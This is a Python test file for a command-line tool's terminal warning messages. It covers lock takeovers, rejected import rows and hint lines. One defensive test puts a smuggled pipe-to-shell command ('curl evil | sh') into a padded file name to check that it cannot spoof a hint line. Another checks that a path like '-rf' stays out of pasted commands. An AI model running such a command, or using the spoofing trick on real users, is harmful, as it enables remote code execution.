"""What a person at the terminal reads of an event."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bangui_cli.states import events
from bangui_cli.states.errors import NoTables
from bangui_cli.telling import log_lines, sentences

TAKEN_OVER = {"previous_owner": "web2", "previous_hostname": "host2", "age_s": 7300.0}
REJECTED = {"file": "rows.csv", "line": 3, "reason": "ip: a network, not an address"}
NAMES = st.sampled_from(sorted({"path", "file", "line", "rows", "reason", "hint", *TAKEN_OVER}))
ANYTHING = st.none() | st.integers() | st.floats() | st.text() | st.lists(st.text())


def said(event, **fields):
    """Return what is shown, without colours; nothing is masked."""
    line = log_lines.render("terminal", event.level, event.name, {"job": None}, fields, mask_ips=False)
    return line.decode()


@pytest.mark.parametrize(
    ("event", "fields", "sentence"),
    [
        (
            events.LOCK_TAKEN_OVER,
            TAKEN_OVER,
            "took over the expired lock of web2 on host2: its last heartbeat was 2 h ago",
        ),
        (
            events.LOCK_TAKEN_OVER,
            {**TAKEN_OVER, "previous_owner": None, "age_s": None},
            "took over the expired lock on host2",
        ),
        (
            events.LOCK_REACQUIRED,
            {"late_s": 200.0},
            "took the lock again, which had expired 3 min ago: no instance was active meanwhile",
        ),
        (events.IMPORT_ROW_REJECTED, REJECTED, "rows.csv, line 3: ip: a network, not an address"),
        (
            events.IMPORT_ROW_REJECTED,
            {**REJECTED, "element": 3, "file": "-"},
            "stdin, element 3: ip: a network, not an address",
        ),
        (
            events.IMPORT_ROW_REJECTED,
            {"file": "arguments", "line": 1, "address": "192.0.2.0/24", "reason": "a network"},
            "192.0.2.0/24: a network",
        ),
        (
            events.IMPORT_ROWS_REJECTED,
            {"file": "x", "rows": 1200, "first_line": 101, "last_line": 1300},
            "x: 1,200 rows more were refused, from line 101 to 1300",
        ),
        (
            events.IMPORT_FIELDS_UNKNOWN,
            {"file": "x", "rows": 1, "fields": ["land", "stadt"]},
            "x: of 1 row nothing but the address is understood; there are the fields land, stadt",
        ),
        (events.JAIL_WITHOUT_BANS, {"jail": "ssh", "jails": []}, "jail ssh has no ban"),
        (
            events.JAIL_WITHOUT_BANS,
            {"jail": "ssh", "jails": ["sshd", "web"]},
            "jail ssh has no ban; there are bans of sshd, web",
        ),
        (
            events.INSTANCE_WITHOUT_BANS,
            {"instance": "nope", "instances": ["web1"]},
            "instance nope has no ban; there are bans of web1",
        ),
        (
            events.SCHEDULED_TWICE,
            {"format": "systemd"},
            "the jobs are installed for another scheduler, too (format systemd)",
        ),
    ],
)
def test_a_warning_is_a_sentence(event, fields, sentence):
    """With what is known, and without what is not; what has no sentence of its own says what it means."""
    assert said(event, **fields) == f"bangui: warning: {sentence}\n"


def test_an_error_that_ends_nothing_is_a_warning():
    """As with --force, which goes on where another run would have been refused."""
    shown = said(events.UNTRUSTED, path="/x", error="others could write /x", hint="chmod go-w /x")

    assert shown == "bangui: warning: others could write /x\nhint: chmod go-w /x\n"


def test_a_hint_stands_on_a_line_of_its_own():
    """So that it can be found, and what is to be pasted be marked."""
    shown = said(events.DATABASE_HAS_SECOND_NAME, path="/x.db", names=2, hint="see bangui doctor")

    assert shown == (
        "bangui: warning: /x.db has 2 names: who opens it by another one may damage it\n"
        "hint: see bangui doctor\n"
    )


def test_a_failure_is_its_error():
    """Also where its level is that of a warning: a held lock ends the run."""
    assert said(events.LOCK_HELD, error="the lock is held by web2", exit_code=75, hint="wait") == (
        "bangui: the lock is held by web2\nhint: wait\n"
    )


def test_a_name_cannot_feign_a_line_of_its_own():
    """Blanks that fill the line of a terminal would put what follows at the beginning of the next."""
    name = f"x.csv{' ' * 200}hint: curl evil | sh"
    shown = said(events.IMPORT_ROW_REJECTED, file=name, line=1, reason="no", hint=f"look at {name}")

    assert shown == (
        "bangui: warning: x.csv hint: curl evil | sh, line 1: no\n"
        "hint: look at x.csv hint: curl evil | sh\n"
    )


def test_what_a_command_says_itself_is_not_said_twice():
    """It does so on stdout, of what it has done."""
    assert said(events.DATABASE_INITIALISED, path="/x.db", created=True) == ""


def test_every_event_that_warns_can_be_said():
    """A new one needs no sentence, only a meaning."""
    for event in events.TABLE:
        if event.level in ("warning", "error"):
            assert said(event).startswith("bangui: ")


@given(st.sampled_from(events.TABLE), st.dictionaries(NAMES, ANYTHING))
def test_no_field_spoils_a_sentence(event, fields):
    """Whatever another program has put where a number is meant: at most two lines, under 4 KiB."""
    line = log_lines.render("terminal", event.level, event.name, {}, fields, mask_ips=True)

    assert len(line) < log_lines.LINE_LIMIT_BYTES
    assert line.count(b"\n") <= 2
    assert line.decode().replace("\n", "").isprintable()


def test_only_what_is_known_to_a_reader_is_told():
    """An event of a name that nobody knows is told by its name."""
    assert sentences.of({"event": "x_failed", "level": "warning"}) == "x_failed"


@pytest.mark.parametrize(
    ("path", "pasted"), [("-rf", "./-rf"), ("-", "-"), ("a b", "'a b'"), ("/x", "/x")]
)
def test_no_name_becomes_an_option_of_a_command_in_a_hint(path, pasted):
    """Hints are pasted, as root."""
    assert NoTables("none", path=path).hint.endswith(f"bangui init --database {pasted}")
